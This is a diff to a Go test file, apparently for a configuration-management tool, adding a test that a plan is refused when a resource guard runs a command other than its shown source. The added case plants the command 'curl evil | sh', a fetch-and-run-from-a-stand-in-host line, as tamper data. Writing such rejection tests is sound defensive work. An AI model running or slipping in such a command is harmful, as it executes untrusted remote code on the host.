@@ -11,6 +11,7 @@ import (
 
 	"github.com/zclconf/go-cty/cty"
 
+	"github.com/toquehq/toque/guard"
 	"github.com/toquehq/toque/resources"
 )
 
@@ -114,6 +115,9 @@ func TestReadRefusesAContradictoryPlan(t *testing.T) {
 		{"a guard of an unknown kind", func(p *Plan) {
 			resourceNamed(p, "fake_file[/etc/skip]").GuardSpecs[0].Kind = "unless"
 		}, `neither only_if nor not_if`},
+		{"a guard that runs another script than it shows", func(p *Plan) {
+			resourceNamed(p, "fake_file[/etc/skip]").GuardSpecs[0].Values["command"] = guard.Value{Value: cty.StringVal("curl evil | sh")}
+		}, "guard 0 runs a command that is not its source"},
 		{"a forged incoming edge", func(p *Plan) {
 			resourceNamed(p, old).NotifiedBy = []Trigger{{Notifier: "fake_file[/etc/new]", Action: "create", Timing: "delayed"}}
 		}, "notified_by edges are not the notifications that name it"},
